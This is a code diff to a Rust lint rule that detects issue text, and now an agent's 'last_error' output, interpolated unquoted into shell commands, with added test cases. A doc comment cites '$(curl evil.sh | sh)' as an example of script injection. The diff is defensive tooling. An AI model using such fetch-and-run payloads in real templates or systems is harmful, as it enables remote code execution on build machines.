@@ -1,5 +1,6 @@
 //! `unquoted-issue-text`: `issue.title` or `issue.body` is interpolated into a shell
-//! command without `| shell_quote`.
+//! command without `| shell_quote` — or `last_error`, which carries what an agent's
+//! attempt printed (a failing check's output, from files the agent wrote).
 //!
 //! Why: issue text is written by anyone who can open an issue. In `sh -c` a title like
 //! `$(curl evil.sh | sh)` runs as a command: script injection (actionlint reports the
@@ -45,10 +46,12 @@ fn check(ctx: &Ctx, out: &mut Vec<Diagnostic>) {
 
 /// Where issue-derived text enters a template: `issue` (all but `issue.number` and
 /// `issue.repo`), `with.task` and `agent.role`, which `plan new` fills with issue text,
-/// and any computed lookup into `with` or `agent`.
+/// any computed lookup into `with` or `agent`; and `last_error`, an agent's own words.
 pub(super) fn tainted_source(text: &str) -> Option<String> {
     let code: String = template_code(text);
-    for (name, safe) in [("issue", &["number", "repo"][..]), ("with", &[][..]), ("agent", &[][..])] {
+    for (name, safe) in
+        [("issue", &["number", "repo"][..]), ("with", &[][..]), ("agent", &[][..]), ("last_error", &[][..])]
+    {
         for (i, _) in code.match_indices(name) {
             let before = code[..i].chars().next_back();
             if before.is_some_and(|c| c.is_alphanumeric() || c == '_' || c == '.') {
@@ -66,7 +69,8 @@ pub(super) fn tainted_source(text: &str) -> Option<String> {
             let tainted = match name {
                 "issue" => !safe.contains(&field.as_str()),
                 "with" => field.is_empty() || field == "task",
-                _ => field.is_empty() || field == "role",
+                "agent" => field.is_empty() || field == "role",
+                _ => true,
             };
             if tainted {
                 return Some(if field.is_empty() { name.to_string() } else { format!("{name}.{field}") });
@@ -227,6 +231,7 @@ mod tests {
             "{{ with.task }}",
             "{{ with['ta' ~ 'sk'] }}",
             "{{ agent.role }}",
+            "echo {{ last_error }}",
         ] {
             assert!(tainted_source(t).is_some(), "{t}");
         }
